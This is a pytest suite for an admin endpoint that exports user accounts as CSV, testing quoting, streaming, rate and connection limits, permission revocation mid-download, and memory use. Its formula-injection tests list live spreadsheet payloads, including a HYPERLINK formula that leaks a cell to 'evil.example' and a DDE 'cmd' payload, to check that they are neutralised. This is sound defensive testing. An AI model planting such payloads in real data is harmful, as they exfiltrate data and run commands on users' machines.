"""The export of accounts: what it says, and that it never holds them all."""

import asyncio
import csv
import io
import re
import threading
import tracemalloc
from uuid import UUID

import httpx2
import pytest
from starlette.types import Message, Scope

from app.auth.permissions import Role
from app.auth.revocation import revoke_access
from app.main import create_app
from app.resources import Resources
from app.users import export
from app.users.model import User
from app.users.repository import UserRepository
from tests.support.factories import make_user
from tests.support.loss import Loss, demote, disable
from tests.support.problems import problem_of
from tests.support.queries import add_users, audit_events
from tests.support.server import served
from tests.support.service import Caller, Service, running_service

EXPORT = "/api/v1/users/export"
ONE_CONNECTION = {"database_pool_size": 1, "database_max_overflow": 0, "database_pool_timeout": 1}
COLUMNS = ["id", "email", "full_name", "role", "is_active", "email_verified", "created_at"]


async def _export(admin: Caller) -> str:
    return (await admin.client.get(EXPORT)).text


async def _cell(admin: Caller, resources: Resources, full_name: str) -> str:
    """Return the name of an account as a spreadsheet reads it."""
    user = await make_user(resources, full_name=full_name)
    rows = csv.DictReader(io.StringIO(await _export(admin), newline=""))
    return next(row["full_name"] for row in rows if row["id"] == str(user.id))


async def test_an_admin_downloads_every_account(admin: Caller, resources: Resources) -> None:
    other = await make_user(resources, full_name="Zo\u00eb", is_active=False, email_verified=False)
    response = await admin.client.get(EXPORT)
    assert response.status_code == 200
    assert response.headers["content-type"].partition(";")[0] == "text/csv"
    assert response.headers["content-disposition"] == 'attachment; filename="users.csv"'
    assert response.text.splitlines()[0] == ",".join(f'"{column}"' for column in COLUMNS)
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert [row["id"] for row in rows] == [str(admin.user.id), str(other.id)]
    assert rows[1] == {
        "id": str(other.id),
        "email": other.email,
        "full_name": "Zo\u00eb",
        "role": "user",
        "is_active": "false",
        "email_verified": "false",
        "created_at": other.created_at.isoformat().replace("+00:00", "Z"),
    }


async def test_no_cell_is_a_formula(admin: Caller, resources: Resources) -> None:
    formulas = [
        "=1+1",
        "+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1+1",
        '=HYPERLINK("https://evil.example?"&A1,"x")',
        "=cmd|' /C calc'!A0",
        "\uff1d1+1",
        "\uff0b1",
    ]
    for name in formulas:
        assert await _cell(admin, resources, name) == f"'{name}"


@pytest.mark.parametrize("separator", [";", ",", "|", "\t", "\r", "\n", "\uff0c", "\uff1b", '; "'])
async def test_no_cell_is_a_formula_with_any_separator(
    admin: Caller, resources: Resources, separator: str
) -> None:
    name = f"x{separator}=1+1{separator}@SUM(A1)"
    assert await _cell(admin, resources, name) == f"x{separator}'=1+1{separator}'@SUM(A1)"


async def test_every_cell_is_quoted(admin: Caller, resources: Resources) -> None:
    await make_user(resources)
    for line in (await _export(admin)).splitlines():
        assert re.fullmatch(r'"[^"]*"(,"[^"]*"){6}', line)


async def test_what_is_no_formula_is_kept_to_the_letter(
    admin: Caller, resources: Resources
) -> None:
    for name in (
        'She said "hi", twice',
        "a\r\nb",
        "a=b",
        "Anne -Marie; x+y",
        "'quoted'",
        "1,2",
        "\U0001f512",
        "\u202e",
    ):
        assert await _cell(admin, resources, name) == name


async def test_a_name_cannot_add_rows_or_columns(admin: Caller, resources: Resources) -> None:
    await make_user(resources, full_name='x"\r\nid,admin@example.com,"y')
    rows = list(csv.reader(io.StringIO(await _export(admin), newline="")))
    assert len(rows) == 3
    assert all(len(row) == len(COLUMNS) for row in rows)


async def test_the_first_chunk_goes_out_before_the_last_row_is_read(
    database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    arrived = threading.Event()
    read = UserRepository.batch

    async def halting(repository: UserRepository, limit: int, after: UUID | None) -> list[User]:
        if after is not None:
            assert await asyncio.to_thread(arrived.wait, 10), "nothing arrived before the last row"
        return await read(repository, limit, after)

    monkeypatch.setattr(UserRepository, "batch", halting)
    monkeypatch.setattr(export, "_BATCH", 1)
    async with running_service(database_url) as service:
        await make_user(service.resources)
        async with service.caller(Role.ADMIN) as admin:
            with served(create_app(service.resources.settings)) as url:
                signed_in = admin.client.build_request("GET", EXPORT).headers
                headers = {**signed_in, "host": "127.0.0.1"}
                async with (
                    httpx2.AsyncClient(base_url=url, headers=headers) as client,
                    client.stream("GET", EXPORT) as response,
                ):
                    chunks = response.aiter_text()
                    received = await anext(chunks)
                    arrived.set()
                    assert received.count("\n") == 2
                    received += "".join([chunk async for chunk in chunks])
    assert received.count("\n") == 3


async def test_without_a_connection_there_is_no_half_answer(
    database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def too_late(repository: UserRepository, limit: int, after: UUID | None) -> list[User]:
        raise ConnectionError

    async with running_service(database_url) as service, service.caller(Role.ADMIN) as admin:
        monkeypatch.setattr(UserRepository, "batch", too_late)
        response = await admin.client.get(EXPORT)
        problem_of(response, 503)
        assert response.headers["retry-after"] == "5"
        monkeypatch.undo()
        assert (await admin.client.get(EXPORT)).status_code == 200


async def test_exports_that_are_not_read_hold_no_connection_and_are_limited(
    database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "_BATCH", 1)
    async with (
        running_service(database_url, **ONE_CONNECTION) as service,
        service.caller(Role.ADMIN) as admin,
    ):
        readers = [_Reader(service, admin) for _ in range(2)]
        for reader in readers:
            await reader.begun.wait()
        # The only connection is free for other requests.
        assert (await admin.client.get("/api/v1/users/me")).status_code == 200
        refused = await admin.client.get(EXPORT)
        problem_of(refused, 429)
        assert refused.headers["retry-after"] == "30"
        readers[0].gone.set()
        await readers[0].ended
        assert (await admin.client.get(EXPORT)).status_code == 200
        readers[1].gone.set()
        await readers[1].ended


async def test_a_client_that_reads_too_slowly_is_cut_off(
    database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "SECONDS", 0.2)
    async with running_service(database_url) as service, service.caller(Role.ADMIN) as admin:
        reader = _Reader(service, admin)
        assert (await asyncio.wait([reader.ended], timeout=10))[0] == {reader.ended}
        assert reader.bodies == 1
        assert (await admin.client.get(EXPORT)).status_code == 200


@pytest.mark.parametrize("loss", [demote, disable, revoke_access])
async def test_a_caller_that_loses_the_permission_gets_no_further_chunk(
    database_url: str, monkeypatch: pytest.MonkeyPatch, loss: Loss
) -> None:
    monkeypatch.setattr(export, "_BATCH", 1)
    async with running_service(database_url) as service, service.caller(Role.ADMIN) as admin:
        await make_user(service.resources)
        reader = _Reader(service, admin)
        await reader.begun.wait()
        async with service.resources.database.transaction() as transaction:
            await loss(transaction, admin.user.id)
        reader.reads.set()
        await reader.ended
        assert (reader.bodies, reader.is_whole) == (1, False)
        denied = await audit_events(service.resources, "access.denied", actor_id=admin.user.id)
        assert [event.details for event in denied] == [{"permission": "users:export"}]


def _request(admin: Caller) -> Scope:
    request = admin.client.build_request("GET", EXPORT)
    return {
        "type": "http",
        "method": "GET",
        "path": EXPORT,
        "query_string": b"",
        "headers": [(name.lower(), value) for name, value in request.headers.raw],
        "client": ("192.0.2.1", 50000),
    }


class _Reader:
    """Downloads the export without reading it before it `reads`, until it is `gone`."""

    def __init__(self, service: Service, admin: Caller) -> None:
        self.begun = asyncio.Event()
        self.reads = asyncio.Event()
        self.gone = asyncio.Event()
        self.bodies = 0
        self.is_whole = False
        request = service.app(_request(admin), self._receive, self._send)
        self.ended = asyncio.create_task(request)

    async def _receive(self) -> Message:
        await self.gone.wait()
        return {"type": "http.disconnect"}

    async def _send(self, message: Message) -> None:
        if message["type"] == "http.response.body":
            self.bodies += 1
            self.is_whole = not message.get("more_body")
            self.begun.set()
            await self.reads.wait()


# The measure of coverage takes memory of its own.
@pytest.mark.no_cover
async def test_memory_does_not_grow_with_the_number_of_accounts(
    service: Service, admin: Caller
) -> None:
    rows = 0

    async def stay() -> Message:
        await asyncio.Event().wait()
        return {"type": "http.disconnect"}

    async def read(message: Message) -> None:
        nonlocal rows
        rows += message.get("body", b"").count(b"\n")

    peaks = []
    for more in (1_000, 9_000):
        await add_users(service.resources, more)
        tracemalloc.start()
        rows = 0
        await service.app(_request(admin), stay, read)
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert rows == 10_002
    assert peaks[1] < 1.5 * peaks[0]
